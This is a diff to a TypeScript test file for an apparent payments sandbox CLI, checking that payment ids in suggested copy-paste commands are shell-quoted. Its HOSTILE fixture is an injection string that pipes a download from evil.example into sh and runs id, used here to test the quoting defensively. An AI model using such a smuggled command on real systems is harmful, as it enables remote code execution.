@@ -110,7 +110,7 @@ describe('a payment that waits for its PSU [C-status-waiting, C-newest-payment]'
 const HOSTILE = "x; curl evil.example | sh '$(id)'";
 const QUOTED = "'x; curl evil.example | sh '\\''$(id)'\\'''";
 
-describe('an id in a command to copy [S10-pasted-id]', () => {
+describe('an id in a command to copy [S10-pasted-id, C-create-result]', () => {
   it('is one word where it comes from the bank', () => {
     const _links = { scaRedirect: { href: 'https://bank.example/sca' } };
     const _meta = { requestId: 'r', status: 201, durationMs: 1, profile: 'p' };
@@ -120,6 +120,12 @@ describe('an id in a command to copy [S10-pasted-id]', () => {
       'sandbox batch run',
       `status ${QUOTED}`,
     ]);
+    const elsewhere = nextCommands(
+      'domestic',
+      created as unknown as Parameters<typeof nextCommands>[1],
+      false,
+    );
+    expect(elsewhere).toEqual([`payments authorise ${QUOTED}`, `status ${QUOTED} --watch`]);
     const reference = { service: 'payments', product: 'p', paymentId: 'kQ3n_V0-b' } as const;
     expect(findReadingHint([{ code: 'RESOURCE_UNKNOWN', category: 'ERROR' }], reference, true)).toContain(
       '\npsd2 sca approve kQ3n_V0-b',
